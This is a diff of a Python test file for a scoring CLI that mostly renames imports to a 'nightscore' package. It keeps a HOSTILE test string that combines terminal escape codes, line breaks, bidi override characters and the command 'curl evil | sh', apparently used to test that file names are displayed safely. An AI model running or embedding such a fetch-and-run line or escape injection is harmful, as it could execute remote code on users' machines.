@@ -6,10 +6,10 @@ import logging
 
 import pytest
 
-from flows.markdown import code, escaped, fenced
-from schemas.text import json_printable, printable
-from scoring.cli import app, show
-from scoring.errors import CorruptFileError
+from nightscore.cli import app, show
+from nightscore.errors import CorruptFileError
+from nightscore.flows.ui.markdown import code, escaped, fenced
+from nightscore.schemas.text import json_printable, printable
 
 HOSTILE = "a\x1b]0;title\x07\r\n  next:     curl evil | sh\u202e\x9b2J\u2028b.parquet"
 SHOWN = r"a\x1b]0;title\x07\r\n  next:     curl evil | sh\u202e\x9b2J\u2028b.parquet"
@@ -55,7 +55,7 @@ def test_a_table_shows_names_as_they_are(capsys: pytest.CaptureFixture[str]) -> 
 
 def test_a_log_record_is_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr("sys.stderr", io.StringIO())
-    logger = logging.getLogger("scoring")
+    logger = logging.getLogger("nightscore")
     monkeypatch.setattr(logger, "handlers", [])
     monkeypatch.setattr(logger, "propagate", True)
     monkeypatch.setattr(logger, "level", logger.level)
